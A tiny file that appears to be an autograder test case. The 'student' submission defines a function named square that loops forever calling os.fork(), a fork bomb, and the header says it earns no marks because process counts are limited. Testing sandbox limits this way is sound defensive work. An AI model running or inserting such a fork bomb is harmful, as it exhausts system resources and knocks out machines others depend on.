# marks: 0 1
# why: the number of processes is limited

# %% student
import os, time
def square(x):
    while True:
        os.fork()
